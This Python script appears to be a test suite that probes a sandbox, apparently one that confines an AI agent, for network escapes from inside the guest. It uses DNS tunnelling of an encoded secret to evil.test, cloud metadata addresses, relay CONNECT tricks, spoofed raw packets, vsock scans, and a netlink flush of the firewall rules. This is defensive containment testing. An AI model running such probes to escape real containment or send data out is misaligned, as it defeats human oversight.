"""Tries to reach what a sandbox must not: run in the guest, a line for each probe: its name, what came of it, milliseconds.

probes.py GROUP: `user` is what an agent can try, `root` what its sudo adds, `broken` what is left when the guest's own rules and routes
are gone. An outcome that begins with REACHED is an escape; "timeout" is no answer where the reason was known. Owns the list.
"""

import errno
import os
import socket
import ssl
import struct
import subprocess
import sys
import time
import urllib.request

PATIENCE = 15
ALLOWED, OTHER, DENIED = "allowed.test", "other.test", "evil.test"
RESOLVER = "192.0.2.1"
HOST = "host.coracle.internal"
SECRET = "c2VjcmV0"
HOST_CID, GATEWAY = 2, 1025


def tcp(host, port, say=b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", family=0):
    """Connects, speaks, and is given nothing: connecting alone is only to the relay."""
    kind, _, _, _, address = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
    with socket.socket(kind, socket.SOCK_STREAM) as it:
        it.settimeout(PATIENCE)
        it.connect(address)
        it.sendall(say)
        got = it.recv(4096)
        return "REACHED %r" % got if got else "closed"


def half():
    with socket.create_connection((ALLOWED, 443), PATIENCE) as it:
        it.sendall(b"\x16\3\1\2\0\1\0")
        it.shutdown(socket.SHUT_WR)
        got = it.recv(4096)
        return "REACHED %r" % got if got else "closed"


def udp(host, port, data=b"hello", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as it:
        it.settimeout(PATIENCE)
        it.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        it.connect((host, port))
        it.send(data)
        return "REACHED %r" % it.recv(4096)


def name(labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def question(labels, kind=1, kind_class=1, flags=0x0100, count=1, extra=b"", raw=None):
    body = (name(labels) if raw is None else raw) + struct.pack("!HH", kind, kind_class)
    return struct.pack("!HHHHHH", 0x1234, flags, count, 0, 0, bool(extra)) + body * count + extra


def code(answer, ok=()):
    """An answer without an address in it; `ok` are codes that an address may come with."""
    rcode, count = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
    return "REACHED %d answers, rcode %d" % (count, rcode) if count and rcode not in ok else "rcode %d" % rcode


def ask(message, server=RESOLVER):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.settimeout(PATIENCE)
        it.connect((server, 53))
        it.send(message)
        return code(it.recv(4096))


def ask_tcp(message, server=RESOLVER):
    with socket.create_connection((server, 53), PATIENCE) as it:
        it.sendall(struct.pack("!H", len(message)) + message)
        got = it.recv(4096)
        return code(got[2:]) if got else "closed"


def lookup(host):
    found = {it[4][0] for it in socket.getaddrinfo(host, 80, 0, socket.SOCK_STREAM)}
    return "REACHED %s" % found


def tls(shown, to=ALLOWED, port=443):
    """A greeting with a name; what the host would answer to it is anything at all."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, out, server_hostname=shown).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return tcp(to, port, out.read())


def hello(names):
    """A greeting by hand, with these names in its list."""
    listed = b"".join(b"\0" + struct.pack("!H", len(it)) + it for it in names)
    listed = struct.pack("!H", len(listed)) + listed
    extensions = b"\0\0" + struct.pack("!H", len(listed)) + listed
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\x01" + b"\1\0" + struct.pack("!H", len(extensions)) + extensions
    message = b"\1" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack("!H", len(message)) + message


def vsock(cid, port, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_VSOCK, kind) as it:
        it.settimeout(PATIENCE)
        it.connect((cid, port))
        return "REACHED connected"


def header(head, then=b"GET / HTTP/1.0\r\n\r\n"):
    """To the gateway itself, past the relay; the first byte is its answer, and 1 would be a connection."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as it:
        it.settimeout(PATIENCE)
        it.connect((HOST_CID, GATEWAY))
        it.sendall(head + then)
        it.shutdown(socket.SHUT_WR)
        got = it.recv(4096)
        return "REACHED %r" % got if got[:1] == b"\1" else "answer %r" % got


def to(address, port, kind=1, zero=0):
    return struct.pack("!BBH4s", kind, zero, port, socket.inet_aton(address))


def redirect():
    with urllib.request.urlopen("http://%s/redirect" % ALLOWED, timeout=PATIENCE) as it:
        return "REACHED %r" % it.read()


def raw(family, protocol, data, address):
    with socket.socket(family, socket.SOCK_RAW, protocol) as it:
        it.settimeout(PATIENCE)
        it.sendto(data, address)
        return "sent"


def packet(source, target, protocol, payload):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + payload


def spoofed():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as it:
        for source in ["127.0.0.1", "10.0.0.9", "8.8.8.8"]:
            it.sendto(packet(source, "8.8.8.8", 17, struct.pack("!HHHH", 53, 53, 12, 0) + b"data"), ("8.8.8.8", 0))
    return "sent"


def frames():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as it:
        for device in os.listdir("/sys/class/net"):
            it.bind((device, 0x0800))
            it.send(b"\xff" * 6 + bytes(6) + b"\x08\x00" + packet("192.0.2.1", "8.8.8.8", 1, b"\x08\0\xf7\xff\0\0\0\0"))
            it.send(b"\xff" * 6 + bytes(6) + b"\x08\x06" + b"\0\1\x08\0\6\4\0\1" + bytes(20))
    return "sent"


def run(*command):
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    return "REACHED %s" % done.stdout.strip() if done.returncode == 0 else "exit %d" % done.returncode


QUIC = bytes([0xC0, 0, 0, 0, 1, 8]) + bytes(1194)
LITERALS = [
    ("1.1.1.1", 443), ("8.8.8.8", 853), ("93.184.216.66", 80), ("93.184.216.66", 443), ("93.184.216.34", 80), ("10.0.0.1", 80),
    ("10.0.2.15", 22), ("10.0.2.2", 22), ("172.16.0.1", 80), ("172.17.0.1", 2375), ("192.168.0.1", 80), ("192.168.122.1", 22), ("100.64.0.1", 80),
    ("169.254.169.254", 80), ("169.254.170.2", 80), ("169.254.0.1", 80), ("100.100.100.200", 80), ("168.63.129.16", 80),
    ("192.0.0.192", 80), ("198.18.0.1", 80), ("198.18.0.2", 22), ("198.18.0.2", 8098), ("198.18.0.2", 7), ("198.18.200.200", 443), ("198.19.255.255", 80),
    ("198.51.100.1", 80), ("203.0.113.1", 80), ("0.0.0.1", 80), ("224.0.0.1", 80), ("240.0.0.1", 80), ("255.255.255.254", 80),
]
# Forms of 127.0.0.1, of 169.254.169.254 and of 8.8.8.8, as C libraries read them.
SPELLED = ["2130706433", "0x7f000001", "017700000001", "127.1", "0177.0.0.1", "127.0.0.1", "localhost", "0", "0.0.0.0",
           "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "134744072", "0x8.8.8.8", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
           "::ffff:8.8.8.8", "::ffff:0808:0808"]
IPV6 = ["::1", "2001:4860:4860::8888", "64:ff9b::808:808", "64:ff9b:1::808:808", "2002:808:808::1", "::8.8.8.8", "fd00:ec2::254",
        "fe80::1%lo", "fe80::a9fe:a9fe%lo", "ff02::1%lo", "fec0::1", "2001:0:808:808::1"]
NAMES = [DENIED, "www." + ALLOWED, ALLOWED + "." + DENIED, "evil" + ALLOWED, SECRET + "." + DENIED, "metadata.google.internal",
         "instance-data", "lab", "host.containers.internal", "gateway.docker.internal", "_dns.resolver.arpa",
         "use-application-dns.net", "mask.icloud.com"]
ODD = [[b"allowed", b"test\0" + b"evil"], [b"allowed.test"], [b"allowed", b"test", b"evil.test"], [b"allowed ", b"test"], [b"all\xc3\xb6wed", b"test"],
       [b"allowed", b"test\n"], [b"*", b"test"], [b"allowed%2etest"], [b"evil.test@allowed", b"test"], [b"a" * 63] * 3 + [b"evil", b"test"], [b"-allowed", b"test"]]


def user():
    for host, port in LITERALS:
        yield "tcp %s:%d" % (host, port), lambda: tcp(host, port)
    for host in SPELLED:
        yield "spelled %s" % host, lambda: tcp(host, 8098)
    for host in IPV6:
        yield "ipv6 %s" % host, lambda: tcp(host, 80, family=socket.AF_INET6)
    for host, port, data in [("8.8.8.8", 443, QUIC), ("93.184.216.66", 443, QUIC), ("8.8.8.8", 123, b"\x1b" + bytes(47)), ("8.8.8.8", 5353, b"x"), ("10.0.0.1", 161, b"x"),
                             ("198.18.0.2", 8099, b"x"), ("198.18.0.2", 7, b"x"), ("224.0.0.251", 5353, question([b"evil", b"local"])),
                             ("224.0.0.252", 5355, question([b"evil"])), ("239.255.255.250", 1900, b"M-SEARCH * HTTP/1.1\r\n\r\n"),
                             ("255.255.255.255", 67, bytes(300)), ("169.254.169.254", 53000, b"x")]:
        yield "udp %s:%d" % (host, port), lambda: udp(host, port, data)
    for host in ["2001:4860:4860::8888", "::ffff:8.8.8.8", "64:ff9b::808:808"]:
        yield "udp [%s]:443" % host, lambda: udp(host, 443, QUIC, socket.AF_INET6)
    for kind, protocol in [(socket.SOCK_STREAM, 132), (socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 262), (socket.SOCK_DGRAM, 33), (socket.SOCK_DGRAM, 1)]:
        yield "protocol %d" % protocol, lambda: other(kind, protocol)
    yield "ping", lambda: run("ping", "-c1", "-W5", "8.8.8.8")
    for host in NAMES:
        yield "name %s" % host, lambda: lookup(host)
        yield "tcp name %s" % host, lambda: tcp(host, 80)
    for host in ["loop.test", "zero.test", "meta.test", "private.test", "shared.test", "many.test"]:
        # Allowed as names, and each leads to where no name may.
        yield "leads inside: %s" % host, lambda: tcp(host, 80)
    for labels in ODD:
        yield "odd name %r" % b".".join(labels)[:40], lambda: ask(question(labels))
    for kind in [2, 5, 6, 10, 15, 16, 28, 33, 35, 41, 65, 251, 252, 255, 256, 65280]:
        yield "tunnel type %d" % kind, lambda: ask(question([b"x" * 60, b"evil", b"test"], kind))
        yield "type %d of an allowed name" % kind, lambda: ask(question([b"allowed", b"test"], kind))
    yield "tunnel by another server", lambda: ask(question([SECRET.encode(), b"evil", b"test"], 16), "8.8.8.8")
    yield "tunnel by tcp", lambda: ask_tcp(question([SECRET.encode(), b"evil", b"test"], 16))
    yield "tunnel by tcp, another server", lambda: ask_tcp(question([SECRET.encode(), b"evil", b"test"], 16), "8.8.8.8")
    yield "class chaos", lambda: ask(question([b"version", b"bind"], 16, 3))
    yield "class any", lambda: ask(question([b"evil", b"test"], 1, 255))
    for opcode in [1, 2, 4, 5, 6]:
        yield "opcode %d" % opcode, lambda: ask(question([b"evil", b"test"], flags=opcode << 11))
    yield "two questions", lambda: ask(question([b"evil", b"test"], count=2))
    yield "options with data", lambda: ask(question([b"evil", b"test"], extra=b"\0\0\x29\x10\0\0\0\0\0\0\x24\0\x0a\0\x20" + b"d" * 32))
    yield "pointer in a question", lambda: ask(question([], raw=b"\xc0\x0c"))
    yield "pointer behind a label", lambda: ask(question([], raw=b"\x04evil\xc0\x0c"))
    yield "reverse 8.8.8.8", lambda: ask(question([b"8", b"8", b"8", b"8", b"in-addr", b"arpa"], 12))
    for shown in [DENIED, OTHER, None, "www." + ALLOWED, ALLOWED + "." + DENIED]:
        yield "tls shows %s" % shown, lambda: tls(shown)
    for names in [[b"evil.test", b"allowed.test"], [b"allowed.test", b"evil.test"], [b"allowed.test\0.evil.test"], [b"evil.test\0allowed.test"], [b""], [b"*.test"], [b"93.184.216.34"]]:
        yield "greeting with %r" % names, lambda: tcp(ALLOWED, 443, hello(names))
    yield "half a greeting, then the end", half
    yield "tls on another port shows another name", lambda: tls(DENIED, port=80)
    yield "redirect to a denied name", redirect
    yield "connect by the relay", lambda: tcp(RESOLVER, 53, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    yield "proxy on the host", lambda: tcp("198.18.0.2", 3128, b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    for port in [22, 80, 443, 7, 8098, 8100, 2375, 6000, 1]:
        yield "the host's port %d" % port, lambda: tcp(HOST, port)
    for cid in [0, 1, 2, 3, 4, 0xFFFFFFFF]:
        for port in [0, 1, 22, 80, 1023, 1024, 1026, 1027, 2375, 0x40000000, 0xFFFFFFFE]:
            if (cid, port) != (HOST_CID, GATEWAY) and cid != 3:
                yield "vsock %d:%d" % (cid, port), lambda: vsock(cid, port)
    yield "vsock datagrams", lambda: vsock(HOST_CID, GATEWAY, socket.SOCK_DGRAM)
    yield "vsock packets", lambda: vsock(HOST_CID, GATEWAY, socket.SOCK_SEQPACKET)
    for address, port in [("127.0.0.1", 8098), ("127.0.0.1", 8099), ("127.0.0.2", 22), ("0.0.0.0", 8098), ("8.8.8.8", 53), ("169.254.169.254", 80),
                          ("10.0.0.1", 80), ("198.18.0.2", 8098), ("198.18.0.1", 80), ("93.184.216.34", 80), ("255.255.255.255", 80)]:
        yield "header to %s:%d" % (address, port), lambda: header(to(address, port))
    for kind in [0, 3, 4, 255]:
        yield "header of kind %d" % kind, lambda: header(to("93.184.216.66", 80, kind))
    yield "header with a second byte", lambda: header(to("93.184.216.66", 80, 1, 1))
    yield "header of names with an address", lambda: header(to("93.184.216.66", 53, 2))
    yield "half a header", lambda: header(b"\1\0\0", b"")


def other(kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as it:
        it.settimeout(PATIENCE)
        it.connect(("8.8.8.8", 443))
        it.send(b"\x08\0\xf7\xff\0\0\0\0")
        return "REACHED %r" % it.recv(4096)


def root():
    yield "raw icmp", lambda: raw(socket.AF_INET, socket.IPPROTO_ICMP, b"\x08\0\xf7\xff\0\0\0\0" + b"d" * 1000, ("8.8.8.8", 0))
    yield "raw icmp to the host", lambda: raw(socket.AF_INET, socket.IPPROTO_ICMP, b"\x08\0\xf7\xff\0\0\0\0", ("198.18.0.2", 0))
    yield "raw icmp6", lambda: raw(socket.AF_INET6, 58, b"\x80\0\0\0\0\0\0\0", ("2001:4860:4860::8888", 0))
    for protocol in [4, 41, 47, 50, 89, 112, 132, 253]:
        yield "raw protocol %d" % protocol, lambda: raw(socket.AF_INET, protocol, b"data" * 8, ("8.8.8.8", 0))
    yield "spoofed sources", spoofed
    yield "frames on every device", frames
    yield "a namespace of its own", lambda: run("unshare", "-n", "python3", "-c", "import socket; socket.create_connection(('8.8.8.8', 80), 5)")
    yield "all vsock ports up to 1200", scan


def scan():
    open_ports = []
    for port in range(1, 1201):
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as it:
            it.settimeout(PATIENCE)
            if it.connect_ex((HOST_CID, port)) == 0:
                open_ports.append(port)
    return "ports %s" % open_ports if open_ports == [GATEWAY] else "REACHED %s" % open_ports


def flush():
    """The whole ruleset goes, by what `nft flush ruleset` sends."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as it:
        message = lambda kind, flags, body: struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body
        it.send(message(0x10, 1, b"\0\0\0\x0a") + message(0x0A02, 5, b"\0\0\0\0") + message(0x11, 1, b"\0\0\0\x0a"))
        answer = it.recv(4096)
        assert struct.unpack("=i", answer[16:20])[0] == 0, answer
    return "gone"


def broken():
    """What its root has done to itself costs it the network, and opens nothing: here only the time is its own."""
    global PATIENCE
    PATIENCE = 2
    yield "the rules", flush
    for command in ["link add esc0 type dummy", "addr add 10.0.0.2/24 dev esc0", "link set esc0 up", "route del default",
                    "route add default via 10.0.0.1 dev esc0", "addr add 8.8.4.4/32 dev lo", "tuntap add esc1 mode tun", "link set esc1 up",
                    "-6 addr add fd00::2/64 dev esc0", "-6 route add default dev esc0", "neigh add 10.0.0.1 lladdr 02:00:00:00:00:01 dev esc0"]:
        yield "ip %s" % command, lambda: run_quietly("ip", *command.split())
    for host, port in [("8.8.8.8", 80), ("10.0.0.1", 80), ("169.254.169.254", 80), ("93.184.216.66", 443), ("198.18.0.2", 8098)]:
        yield "tcp %s:%d" % (host, port), lambda: tcp(host, port)
        yield "udp %s:%d" % (host, port), lambda: udp(host, port)
    yield "ipv6", lambda: tcp("2001:4860:4860::8888", 80, family=socket.AF_INET6)
    yield "name", lambda: ask(question([b"evil", b"test"]))
    yield "raw icmp", lambda: raw(socket.AF_INET, socket.IPPROTO_ICMP, b"\x08\0\xf7\xff\0\0\0\0", ("8.8.8.8", 0))
    yield "frames on every device", frames
    yield "header to the host", lambda: header(to("127.0.0.1", 8098))
    yield "header to 8.8.8.8", lambda: header(to("8.8.8.8", 80))
    yield "vsock 2:1024", lambda: vsock(2, 1024)


def run_quietly(*command):
    run(*command)
    return "done"


def outcome(probe):
    try:
        return probe()
    except TimeoutError:
        return "timeout"
    except socket.gaierror as error:
        return "no name: %s" % error
    except OSError as error:
        number = getattr(error, "reason", error)
        return errno.errorcode.get(getattr(number, "errno", None) or 0, str(error))
    except (ValueError, UnicodeError) as error:
        return "not said: %s" % error


for label, probe in {"user": user, "root": root, "broken": broken}[sys.argv[1]]():
    start = time.monotonic()
    what = outcome(probe)
    print(label, what, round((time.monotonic() - start) * 1000), sep="\t", flush=True)
